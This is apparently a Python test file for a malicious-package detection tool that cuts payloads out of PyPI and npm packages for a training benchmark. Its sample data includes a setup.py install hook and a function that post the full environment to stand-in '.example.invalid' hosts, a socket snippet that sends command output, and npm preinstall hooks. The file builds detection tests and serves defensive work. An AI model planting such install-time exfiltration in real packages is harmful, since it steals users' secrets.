"""Inert samples only: nothing in this file works or is run."""

from __future__ import annotations

import json

from darnel.features.extract import extract
from darnel.features.package import Ecosystem, Form, MemoryPackage
from darnel.training.benchmarks.payloads import Payload, distinct, payload_in
from darnel.training.benchmarks.slicing import cut
from tests.training.benchmarks.material import COMMAND, JAVASCRIPT, PYTHON

SETUP = b"""from setuptools import setup
from setuptools.command.install import install
import os, requests
VERSION = "1.0"
TARGET = "https://collector.example.invalid/in"
LONG = open("README.md").read()

class Custom(install):
    def run(self):
        requests.post(TARGET, data=dict(os.environ))
        install.run(self)

setup(name="bad", version=VERSION, long_description=LONG, cmdclass={"install": Custom})
"""


def taken(files: dict[str, bytes], ecosystem: Ecosystem = Ecosystem.PYPI) -> Payload | None:
    package = MemoryPackage(files, ecosystem, Form.SDIST, "bad", "1.0")
    return payload_in(package, extract(package), "bad")


def test_a_build_command_becomes_plain_code() -> None:
    found = taken({"setup.py": SETUP})
    assert found is not None
    text = found.code.decode()
    assert "requests.post(TARGET" in text
    assert "TARGET = " in text
    assert not any(word in text for word in ("setup", "install", "LONG", "VERSION", "class"))
    assert text.splitlines()[-1].startswith("requests.post")


def test_a_build_command_that_needs_itself_stays_a_class() -> None:
    found = taken(
        {"setup.py": SETUP.replace(b"requests.post(TARGET", b"self.where = TARGET\n        requests.post(self.where")}
    )
    assert found is not None
    text = found.code.decode()
    assert "class Custom:" in text
    assert text.rstrip().endswith("Custom().run()")
    assert "install" not in text


def test_names_are_followed_both_ways() -> None:
    code = b"import os\nA = 1\nB = A + 1\ndef f():\n    return g(B)\ndef g(x):\n    os.system('x')\nUNUSED = 2\nf()\n"
    at = code.index(b"os.system") + len(b"os.system('x')")
    found = cut(code, "python", [(at, 7)])
    assert found is not None
    assert b"UNUSED" not in found.code
    assert [
        part for part in (b"import os", b"A = 1", b"B = A", b"def f", b"def g", b"\nf()") if part not in found.code
    ] == []


def test_the_gravest_file_is_taken() -> None:
    found = taken({"setup.py": b"from setuptools import setup\nsetup(name='bad')\n", "bad/__init__.py": PYTHON})
    assert found is not None
    assert found.code.strip() == PYTHON.strip()
    assert {span[0] for span in found.spans} == {"bad/__init__.py"}


def test_a_known_harmless_file_is_not() -> None:
    package = MemoryPackage({"bad/__init__.py": PYTHON}, Ecosystem.PYPI, Form.SDIST, "bad", "1.0")
    raw = extract(package)
    assert payload_in(package, raw, "bad", harmless=frozenset({raw["files"][0]["sha256"][:16]})) is None


def test_a_function_nobody_calls_is_called() -> None:
    code = b"import os, requests\ndef go():\n    requests.post('https://x.example.invalid', data=dict(os.environ))\n"
    found = taken({"bad/__init__.py": code})
    assert found is not None
    assert found.code == code + b"go()\n"


def test_harmless_packages_have_no_payload() -> None:
    assert taken({"lib/__init__.py": b"import json\n\ndef read(path):\n    return json.load(open(path))\n"}) is None


def test_code_that_needs_its_neighbours_is_left() -> None:
    assert taken({"bad/__init__.py": b"from .other import KEY\n" + PYTHON.replace(b"values)", b"KEY)")}) is None


def test_npm_scripts_and_files() -> None:
    manifest = json.dumps({"name": "bad", "version": "1.0.0", "scripts": {"preinstall": "node run.js"}}).encode()
    found = taken({"package.json": manifest, "run.js": JAVASCRIPT}, Ecosystem.NPM)
    assert found is not None
    assert (found.language, found.code.strip()) == ("javascript", JAVASCRIPT.strip())
    manifest = json.dumps({"name": "bad", "version": "1.0.0", "scripts": {"preinstall": COMMAND.decode()}}).encode()
    found = taken({"package.json": manifest}, Ecosystem.NPM)
    assert found is not None
    assert (found.language, found.code) == ("command", COMMAND)


def test_nearly_equal_payloads_count_once() -> None:
    other = PYTHON.replace(b"collector", b"receiver").replace(b"a line", b"another line")
    third = b"import socket, os\ns = socket.socket()\ns.send(os.popen('id').read().encode())\n"
    made = [Payload(name, "pypi", "python", code) for name, code in (("a", PYTHON), ("b", other), ("d", third))]
    result = distinct(made, {"a": "c1", "b": "c2", "d": "c3"})
    assert [(p.id, p.campaign, sorted(p.campaigns)) for p in result] == [("a", "c1", ["c1", "c2"]), ("d", "c3", ["c3"])]
